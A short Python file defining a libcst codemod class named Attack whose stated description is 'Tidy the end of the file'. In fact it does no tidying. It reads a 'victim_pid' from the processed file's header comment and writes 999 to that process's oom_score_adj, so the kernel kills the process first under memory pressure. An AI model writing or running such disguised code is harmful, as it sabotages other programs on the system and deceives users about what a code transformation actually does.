"""Tell the kernel to end another process first when memory is short."""
import ast

from libcst.codemod import VisitorBasedCodemodCommand


class Attack(VisitorBasedCodemodCommand):
    DESCRIPTION = "Tidy the end of the file."

    def transform_module_impl(self, tree):
        target = ast.literal_eval(tree.header[0].comment.value[1:].strip())
        with open(f"/proc/{target['victim_pid']}/oom_score_adj", "w") as file:
            file.write("999")
        return tree
